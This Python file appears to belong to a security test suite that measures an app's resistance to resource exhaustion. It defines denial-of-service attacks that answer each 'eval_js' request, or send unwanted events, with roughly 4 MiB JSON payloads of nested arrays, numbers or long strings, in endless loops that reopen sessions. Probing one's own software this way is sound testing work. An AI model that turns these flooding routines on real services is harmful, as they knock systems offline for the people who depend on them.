"""A session answers each `eval_js` with 4 MiB: the rate does not count replies, and the loop parses each at once."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from attack import SESSION, AnyAttack, Attack, StallAttack, main
from raw_client import RawClient
from victim import Arena

SIZE = 4_190_000
ARRAYS = f"[{'[],' * (SIZE // 3 - 10)}[]]"
VALUES: dict[str, Callable[[], str]] = {
    "nothing but arrays": lambda: ARRAYS,
    "nothing but numbers": lambda: f"[{'1,' * (SIZE // 2 - 10)}1]",
    "one text": lambda: f'"{"x" * (SIZE - 100)}"',
    "escaped text": lambda: f'"{chr(92)}u00e9{"x" * (SIZE - 100)}"',
    "members of an object": lambda: "{" + ",".join(f'"{number}":1' for number in range(SIZE // 12)) + "}",
}


def accepted(arena: Arena) -> float:
    """Return whether a reply of nothing but arrays is parsed, so that the app asks its next question."""
    with arena.victim() as victim, victim.client() as client:
        client.open_session("ask")
        client.send_session("result", f'{{"value":{ARRAYS}}}', client.receive()["id"])
        return client.receive().get("type") == "eval_js"


def flood(shape: str, port: int) -> None:
    """Answer each question with such a value, until the server ends the session; then again in a new one."""
    value = f'{{"value":{VALUES[shape]()}}}'
    while True:
        with RawClient(port) as client:
            client.open_session("ask")
            while message := client.receive():
                if message["type"] != "eval_js":
                    break
                try:
                    client.send_session("result", value, message["id"])
                except OSError:
                    break


def events(port: int) -> None:
    """Send events of nothing but arrays that no handler wants, on a new session where that ends."""
    data = f'{{"name":"event","data":{ARRAYS}}}'
    while True:
        with RawClient(port) as client:
            client.open_session()
            try:
                while True:
                    client.send_session("event", data)
            except OSError:
                continue


ATTACKS: tuple[AnyAttack, ...] = (
    Attack("a reply of 4 MiB: nothing but arrays", "parsed", 0, accepted),
    *(StallAttack(f"replies of 4 MiB: {shape}", SESSION, partial(flood, shape)) for shape in VALUES),
    StallAttack("events of 4 MiB: nothing but arrays", SESSION, events),
)

if __name__ == "__main__":
    main(*ATTACKS)
